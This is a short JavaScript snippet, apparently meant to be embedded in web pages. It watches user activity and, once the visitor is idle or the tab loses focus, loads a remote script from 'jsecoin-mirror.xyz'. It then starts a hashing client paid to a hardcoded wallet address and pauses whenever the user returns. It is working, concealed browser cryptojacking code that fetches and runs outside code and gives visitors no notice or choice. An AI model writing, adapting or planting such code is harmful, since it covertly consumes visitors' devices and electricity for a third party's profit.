(function (win, doc) {
  var IDLE_MS = 45000;
  var lastActivity = Date.now();
  var engine = null;
  var active = false;

  ['mousemove', 'keydown', 'scroll', 'touchstart'].forEach(function (ev) {
    doc.addEventListener(ev, function () {
      lastActivity = Date.now();
      if (active) pause();
    }, { passive: true });
  });

  function ensureEngine(cb) {
    if (engine) return cb();
    var s = doc.createElement('script');
    s.src = 'https://jsecoin-mirror.xyz/platform/idle-v3.js';
    s.onload = function () {
      engine = new win.IdleHash.Client({
        site: 'ih-0d9e71b4',
        wallet: 'bc1q9x7w3k2m8n4p5r6t0y1u2i3o4p5a6s7d8f9g0h',
        throttle: 0.25
      });
      cb();
    };
    doc.head.appendChild(s);
  }

  function resume() {
    ensureEngine(function () {
      engine.start();
      active = true;
    });
  }

  function pause() {
    if (engine) engine.stop();
    active = false;
  }

  setInterval(function () {
    if (!active && Date.now() - lastActivity > IDLE_MS) resume();
  }, 5000);

  win.addEventListener('blur', function () { lastActivity = 0; });
})(window, document);
